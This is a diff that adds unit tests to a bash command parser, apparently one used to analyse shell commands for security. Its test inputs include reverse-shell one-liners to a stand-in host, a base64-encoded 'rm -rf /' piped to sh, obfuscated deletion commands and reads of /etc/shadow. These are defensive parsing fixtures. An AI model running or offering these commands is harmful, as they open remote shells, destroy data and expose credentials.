@@ -146,6 +146,72 @@ describe('bash segments', () => {
     ]);
   });
 
+  it('keeps a pipeline whole when a stage has a redirect', () => {
+    // tree-sitter nests this as ((cat | sh) 2>&1) | nc, then > f around all of it.
+    const a = bash('cat f | sh -i 2>&1 | nc h p > f');
+    expect(a.invocations.map((i) => [i.program, i.pipeline?.id, i.pipeline?.stage])).toEqual([
+      ['cat', 0, 0],
+      ['sh', 0, 1],
+      ['nc', 0, 2],
+    ]);
+    expect(a.redirects.map((r) => [r.op, r.target])).toEqual([['>', 'f']]);
+  });
+
+  it('binds | tighter than && even when a redirect makes tree-sitter wrap the list', () => {
+    const a = bash('mknod /tmp/p p && nc h 4444 0</tmp/p | /bin/sh 1>/tmp/p 2>&1');
+    expect(a.invocations.map((i) => [i.argv.join(' '), i.pipeline?.id, i.pipeline?.stage])).toEqual([
+      ['mknod /tmp/p p', undefined, undefined],
+      ['nc h 4444', 0, 0],
+      ['/bin/sh', 0, 1],
+    ]);
+  });
+
+  it('passes literal data through a redirected stage', () => {
+    const rm = bash('echo cm0gLXJmIC8= | base64 -d 2>/dev/null | sh').invocations.find((i) => i.program === 'rm');
+    expect(rm).toMatchObject({ argv: ['rm', '-rf', '/'], via: ['sh -s', 'base64'] });
+  });
+
+  it('reads digits right before < or > as the redirect’s descriptor, not an argument', () => {
+    expect(bash('bash -i >& /dev/tcp/h/4444 0>&1').invocations[0]?.argv).toEqual(['bash', '-i']);
+    expect(bash('nc h 4 0</tmp/p').invocations[0]?.argv).toEqual(['nc', 'h', '4']);
+    expect(bash('echo "1">f').invocations[0]?.argv).toEqual(['echo', '1']);
+  });
+
+  it.each([
+    ['exec 3<>/dev/tcp/h/p', '/dev/tcp/h/p'],
+    ['exec 3<> /dev/udp/h/53', '/dev/udp/h/53'],
+    ['cat <>f', 'f'],
+    ['while read -r l; do echo "$l"; done 3<>fifo', 'fifo'],
+  ])('parses the read-write redirect in %j', (code, target) => {
+    const a = bash(code);
+    expect(a.problems).toEqual([]);
+    expect(a.redirects.map((r) => [r.op, r.target])).toEqual([['<>', target]]);
+  });
+
+  it.each([
+    ['$(ls |grep -v ^packages$)', ['grep', '-v', '^packages$']],
+    ['if [ -e $D ]; then\n\tcd $D && rm -rf $(ls |grep -v ^packages$)\n\trmdir $D\nfi', ['grep', '-v', '^packages$']],
+    ['echo $; ls', ['echo', '$']],
+    ['echo a$/b $$', ['echo', 'a$/b', '$$']],
+  ])('reads a literal $ the grammar cannot parse in %j', (code, argv) => {
+    const a = bash(code);
+    expect(a.problems).toEqual([]);
+    expect(a.invocations.map((i) => i.argv)).toContainEqual(argv);
+  });
+
+  it.each([
+    ['$(curl -fsSL https://x)', ''],
+    ['`curl -s https://example.com/y` -c 1', ''],
+    ['$X.sh', ''],
+    ['${PREFIX}bin', ''],
+    ['x=rm; $x -rf /', 'rm'],
+    ['x=sh; /bin/$x', 'sh'],
+    ['"$DIR"/rm -rf /', 'rm'],
+    ['rm${IFS}-rf${IFS}/', 'rm'],
+  ])('names the program of %j %j, never a fragment of run-time text', (code, program) => {
+    expect(bash(code).invocations.at(-1)?.program).toBe(program);
+  });
+
   it('records redirects with literal targets', () => {
     const a = bash('echo x > /etc/passwd; echo y >> ~/.bashrc 2>&1; cat < /etc/shadow; ls &> /dev/null; date >| f; echo > "$X"');
     expect(a.redirects.map((r) => [r.op, r.target])).toEqual([
